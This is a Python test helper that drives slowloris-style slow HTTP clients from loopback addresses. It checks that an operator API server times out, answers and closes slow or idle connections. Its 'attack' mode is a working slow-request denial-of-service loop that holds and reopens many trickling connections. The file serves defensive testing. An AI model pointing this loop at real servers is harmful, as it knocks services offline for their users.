#!/usr/bin/env python3
"""slowloris.py MODE HOST PORT [options] - slow clients of the operator port,
each bound to a loopback source address of its choosing (127.0.0.0/8 is all
local on Linux), for tests/e2e/api/test_slowloris.sh.

  trickle --addr A [--body]   one request a byte at a time (its headers, or
                              whole headers and then its body); prints JSON:
                              seconds until the server answered or closed,
                              the status line, whether it closed
  attack --addrs A,B --per N --seconds S --status FILE
                              N connections from each address, each trickling
                              a request a byte every half second; a closed one
                              is opened again. FILE gets JSON every 0.1 s:
                              open connections, closes seen
  probe --addr A              connects and sends nothing; prints "closed" if
                              the server closes it within 2 s, else "open"
"""
import argparse
import json
import os
import selectors
import socket
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 400 + b"\r\n\r\n"
BODY_HEAD = (b"POST /v1/devices/x/quarantine HTTP/1.1\r\nHost: x\r\n"
             b"Content-Type: application/json\r\nContent-Length: 400\r\n\r\n")


def connect(host, port, addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((addr, 0))
    s.settimeout(2)
    s.connect((host, port))
    return s


def trickle(a):
    s = connect(a.host, a.port, a.addr)
    if a.body:
        s.sendall(BODY_HEAD)
        payload = b"{" + b" " * 398 + b"}"
    else:
        payload = HEAD
    start, data, closed = time.monotonic(), b"", False
    s.settimeout(0.25)
    for i in range(len(payload)):
        try:
            s.send(payload[i:i + 1])
        except OSError:
            closed = True
            break
        try:
            chunk = s.recv(4096)
            if not chunk:
                closed = True
                break
            data += chunk
        except socket.timeout:
            pass
        except OSError:
            closed = True
            break
    elapsed = time.monotonic() - start
    s.settimeout(2)  # the rest of an answer, then the close
    try:
        while not closed:
            chunk = s.recv(4096)
            data += chunk
            closed = not chunk
    except OSError:
        closed = True
    print(json.dumps({"seconds": round(elapsed, 3), "status": data.split(b"\r\n")[0].decode(),
                      "closed": closed, "body": data.split(b"\r\n\r\n", 1)[-1].decode()}))


class Slow:
    def __init__(self, a, addr):
        self.a, self.addr, self.sock, self.sent, self.next_at = a, addr, None, 0, 0.0

    def open(self, sel):
        try:
            self.sock = connect(self.a.host, self.a.port, self.addr)
            self.sock.setblocking(False)
            sel.register(self.sock, selectors.EVENT_READ, self)
            self.sent, self.next_at = 0, time.monotonic()
        except OSError:
            self.sock, self.next_at = None, time.monotonic() + 0.2

    def drop(self, sel):
        sel.unregister(self.sock)
        self.sock.close()
        self.sock, self.next_at = None, time.monotonic() + 0.2


def attack(a):
    sel = selectors.DefaultSelector()
    slows = [Slow(a, addr) for addr in a.addrs.split(",") for _ in range(a.per)]
    for s in slows:
        s.open(sel)
    closes, end, last_status = 0, time.monotonic() + a.seconds, 0.0
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.05):
            s = key.data
            try:
                gone = not s.sock.recv(4096)
            except OSError:
                gone = True
            if gone:  # an answer (408) is followed by the close
                s.drop(sel)
                closes += 1
        now = time.monotonic()
        for s in slows:
            if s.sock is None and now >= s.next_at:
                s.open(sel)
            elif s.sock is not None and now >= s.next_at:
                try:
                    s.sock.send(HEAD[s.sent % len(HEAD):s.sent % len(HEAD) + 1])
                    s.sent += 1
                except OSError:
                    pass
                s.next_at = now + 0.5
        if now - last_status >= 0.1:
            with open(a.status + ".tmp", "w") as f:
                json.dump({"open": sum(s.sock is not None for s in slows), "closes": closes}, f)
            os.replace(a.status + ".tmp", a.status)
            last_status = now
    for s in slows:
        if s.sock is not None:
            s.sock.close()


def probe(a):
    s = connect(a.host, a.port, a.addr)
    try:
        print("closed" if not s.recv(100) else "open")
    except socket.timeout:
        print("open")
    except OSError:
        print("closed")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["trickle", "attack", "probe"])
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--addr", default="127.0.0.1")
    p.add_argument("--addrs", default="127.0.0.2")
    p.add_argument("--per", type=int, default=1)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--status", default="/dev/null")
    p.add_argument("--body", action="store_true")
    a = p.parse_args()
    {"trickle": trickle, "attack": attack, "probe": probe}[a.mode](a)


if __name__ == "__main__":
    sys.exit(main())
